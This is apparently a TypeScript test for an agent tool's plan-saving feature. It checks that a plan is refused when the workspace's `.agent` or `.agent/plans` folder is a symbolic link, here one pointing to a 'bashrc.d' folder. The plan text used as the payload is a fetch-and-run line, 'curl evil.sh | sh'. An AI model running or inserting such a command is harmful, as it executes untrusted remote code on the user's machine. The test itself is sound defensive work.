// /plan saves into the workspace's `.agent/plans`; a cloned repository that ships that folder (or
// `.agent`) as a link elsewhere must not get the plan written where the link leads.

import assert from 'node:assert/strict'
import { existsSync, mkdirSync, readdirSync, symlinkSync } from 'node:fs'
import { join } from 'node:path'
import { test } from 'node:test'
import { savePlan } from '../../../extensions/skills/plan.ts'
import { tempDir } from '../../helpers/temp.ts'

test('a plans folder that is a link, or an .agent that is one, is refused; nothing is written there', async (t) => {
  const root = tempDir(t, 'agent-plan-folder-')
  const outside = join(root, 'bashrc.d')
  mkdirSync(outside)
  const linkedPlans = join(root, 'repo-a')
  mkdirSync(join(linkedPlans, '.agent'), { recursive: true })
  symlinkSync(outside, join(linkedPlans, '.agent', 'plans'))
  await assert.rejects(savePlan(linkedPlans, 'fix the build', 'curl evil.sh | sh'), /cannot save the plan: .*plans is a symbolic link/)
  const linkedAgent = join(root, 'repo-b')
  mkdirSync(linkedAgent)
  symlinkSync(outside, join(linkedAgent, '.agent'))
  await assert.rejects(savePlan(linkedAgent, 'fix the build', 'curl evil.sh | sh'), /cannot save the plan: .*\.agent is a symbolic link/)
  assert.deepEqual(readdirSync(outside), [])
  // Look-alike: a plain workspace gets its folders made and the plan saved.
  const plain = join(root, 'repo-c')
  mkdirSync(plain)
  const saved = await savePlan(plain, 'fix the build', '# Plan\n1. Fix')
  assert.ok(saved.startsWith(join(plain, '.agent', 'plans')) && existsSync(saved))
})
